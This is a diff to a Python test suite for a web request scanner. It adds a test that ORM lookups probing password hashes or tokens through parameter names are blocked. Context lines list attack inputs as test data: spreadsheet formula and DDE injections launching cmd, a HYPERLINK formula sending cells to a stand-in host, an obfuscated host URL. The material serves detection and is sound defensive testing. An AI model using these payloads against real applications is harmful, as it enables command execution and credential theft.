@@ -130,6 +130,7 @@ CASES = [
     ("path", "/WEB-INF/web.xml", "restricted_file"),
     ("query", "=cmd|' /C calc'!A0", "formula_injection"),
     ("query", "http://017700000001/", "url_obfuscated_host"),
+    ("body", "user__password__startswith=pbkdf2", "django_orm_secret_lookup"),
     ("query", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"),
     ("body", '=HYPERLINK("http://x.example.com?x="&A1&A2,"Error")', "formula_injection"),
     ("query", 'DDE ("cmd";"/C calc";"!A0")A0', "formula_injection"),
@@ -465,3 +466,17 @@ def test_a_spreadsheet_formula_or_a_signed_number_is_not_formula_injection(value
     """A formula that computes, a phone number, a handle: not what runs a program or sends cells out."""
     for where in ("query", "body"):
         assert "formula_injection" not in names(scan_at(where, value)), (where, value)
+
+
+
+def test_an_orm_lookup_on_a_secret_in_a_parameter_name_is_blocked(rf):
+    """``?user__password__startswith=pbkdf2``: a view that passes ``request.GET`` (or a JSON body) to
+    ``filter(**…)`` leaks the hash a character at a time. The admin's own filters and a search for the text pass."""
+    for request in (rf.get("/users/", QUERY_STRING="user__password__startswith=pbkdf2"),
+                    rf.post("/users/", data="token__regex=%5Eab", content_type="application/x-www-form-urlencoded"),
+                    rf.post("/api/users", data=b'{"owner__password__startswith": "pbkdf2"}', content_type="application/json")):
+        result = scan_request(request)
+        assert result.score >= BLOCK and "django_orm_secret_lookup" in names(result), request
+    for request in (rf.get("/admin/auth/user/", QUERY_STRING="is_staff__exact=1&is_superuser__exact=0&o=-2"),
+                    rf.get("/search", QUERY_STRING="q=password__startswith"), rf.get("/", QUERY_STRING="name__icontains=bob")):
+        assert "django_orm_secret_lookup" not in names(scan_request(request))
